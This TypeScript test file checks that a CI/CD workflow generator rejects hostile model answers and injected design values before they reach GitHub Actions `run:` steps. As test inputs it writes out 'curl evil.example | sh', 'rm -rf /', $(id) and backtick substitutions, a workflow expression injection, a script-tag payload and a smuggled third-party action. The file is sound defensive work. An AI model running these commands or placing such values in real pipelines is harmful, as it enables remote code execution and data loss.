// Hostile model answers and design results: rejected by a schema, or unable to reach a `run:`.
import { parse } from "yaml";
import { describe, expect, it } from "vitest";
import { GenerationError } from "../../../src/errors.js";
import { cicdPhase, cicdResultSchema, type CicdResult } from "../../../src/phases/cicd/index.js";
import { checkWorkflowSecurity } from "../../../src/validate/workflow-security.js";
import { seedDeployment, seedInput } from "./fixtures.js";

const INJECTION = "${{ github.event.head_commit.message }}";
const good = (): CicdResult => cicdPhase.offline(seedInput());

function runScripts(workflowText: string): string {
  const wf = parse(workflowText) as { jobs: Record<string, { steps: Array<{ run?: string }> }> };
  return Object.values(wf.jobs)
    .flatMap((j) => j.steps.map((s) => s.run ?? ""))
    .join("\n");
}

describe("hostile model answers are rejected by the result schema", () => {
  it.each<[string, Record<string, unknown>]>([
    ["a test command carrying an expression", { testCommand: `pytest ${INJECTION}` }],
    ["a test command chaining a command", { testCommand: "pytest; curl evil.example | sh" }],
    ["a test command with $()", { testCommand: "pytest $(id)" }],
    ["a test command with a backtick", { testCommand: "pytest `id`" }],
    ["a test command with a newline", { testCommand: "pytest\nrm -rf /" }],
    ["an unknown runner", { testCommand: "bash -c id" }],
    ["an extra uses: field", { uses: "evil/action@main" }],
    ["an extra run: field", { run: "curl evil.example | sh" }],
    ["descending canary steps", { canarySteps: [50, 10, 100] }],
    ["steps not ending at 100", { canarySteps: [10, 50] }],
    ["a fractional step", { canarySteps: [10.5, 100] }],
    ["a runtime version with shell", { runtimeVersion: "3.12; id" }],
    ["rationale with HTML", { rationale: "Looks fine. <script>alert(1)</script> really it is fine." }],
    ["rationale with an expression", { rationale: `This is a fine rationale ${INJECTION} indeed.` }],
    ["a nested extra key", { healthCheck: { retries: 3, timeoutSeconds: 5, intervalSeconds: 5, uses: "x/y@main" } }],
  ])("%s", (_, patch) => {
    expect(cicdResultSchema.safeParse({ ...good(), ...patch }).success).toBe(false);
  });

  it("the offline answer itself passes", () => {
    expect(cicdResultSchema.parse(good())).toEqual(good());
  });
});

describe("hostile design values never reach a script", () => {
  it.each<[string, (d: ReturnType<typeof seedDeployment>) => void]>([
    ["a service name with ;", (d) => void (d.services[0]!.name = "web;rm -rf /")],
    ["a service name with $()", (d) => void (d.services[0]!.name = "web$(id)")],
    ["a health path with a backtick", (d) => void (d.services[0]!.healthPath = "/health`id`")],
    ["a command word with a quote", (d) => void (d.services[1]!.command = ["celery", "-A", "app'; id; '"])],
    ["a secret name with $", (d) => void (d.services[0]!.secrets = ["DB$(id)"])],
    ["a project with a space", (d) => void (d.project = "acme prod")],
  ])("%s: GenerationError before anything renders", async (_, mutate) => {
    const deployment = seedDeployment();
    mutate(deployment);
    const input = seedInput({}, deployment);
    expect(() => cicdPhase.offline(input)).toThrow(GenerationError);
    await expect(async () => cicdPhase.render(good(), input)).rejects.toThrow(GenerationError);
  });

  it("a runtime version for the wrong stack is refused at render", async () => {
    await expect(async () => cicdPhase.render({ ...good(), runtimeVersion: "22" }, seedInput())).rejects.toThrow(
      /python stack/,
    );
  });

  it("prose smuggling a `uses:` stays in the README, outside every run: and uses:", async () => {
    const smuggled = "Fine choices. uses: evil-org/evil-action@main and run: curl evil.example then sh";
    const result = cicdResultSchema.parse({ ...good(), rationale: smuggled });
    const artifacts = await cicdPhase.render(result, seedInput());
    const workflow = artifacts.find((a) => a.path.endsWith("deploy.yml"))!.content;
    expect(workflow).not.toContain("evil");
    expect(runScripts(workflow)).not.toContain("evil");
    expect(artifacts.find((a) => a.path.endsWith("README.md"))!.content).toContain(smuggled);
    expect(checkWorkflowSecurity(workflow)).toEqual([]);
  });

  it("every value in run: scripts comes from the contract or matches a strict pattern", async () => {
    const artifacts = await cicdPhase.render(good(), seedInput());
    const runs = runScripts(artifacts[0]!.content);
    expect(runs).not.toContain("${{");
    expect(runs).not.toMatch(/[`;&]\s*(id|curl|rm)\b/);
  });
});
